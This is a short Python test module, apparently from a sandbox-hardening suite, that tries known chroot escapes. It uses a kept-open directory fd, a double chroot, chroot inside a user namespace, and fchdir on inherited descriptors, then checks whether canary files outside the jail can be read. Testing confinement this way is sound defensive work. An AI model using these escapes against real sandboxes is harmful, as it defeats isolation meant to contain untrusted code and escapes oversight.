"""Break out by chroot: a directory kept open, a second chroot, fchdir on what was inherited.

levels: namespaces landlock
control: yes
"""

NEWUSER = 0x10000000


def climb():
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return True


def kept_directory(first):
    first()
    outside = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    os.makedirs("jail", exist_ok=True)
    os.chroot("jail")
    os.fchdir(outside)
    return climb()


def double(first):
    first()
    os.makedirs("jail/inner", exist_ok=True)
    os.chroot("jail")
    os.chdir("/")
    os.chroot("inner")
    return climb()


def inherited(fd):
    os.fchdir(fd)
    return any(leaked(read("../" * 30 + it.lstrip("/"))) for it in canary["files"]) or leaked(read(canary["name"]))


for road in (kept_directory, double):
    attempt(f"chroot, {road.__name__}", in_child, road, lambda: None)
    attempt(f"chroot in a user namespace, {road.__name__}", in_child, road, lambda: syscall("unshare", NEWUSER))
for fd in range(1024):
    attempt(f"fchdir {fd}", inherited, fd)
verdict()
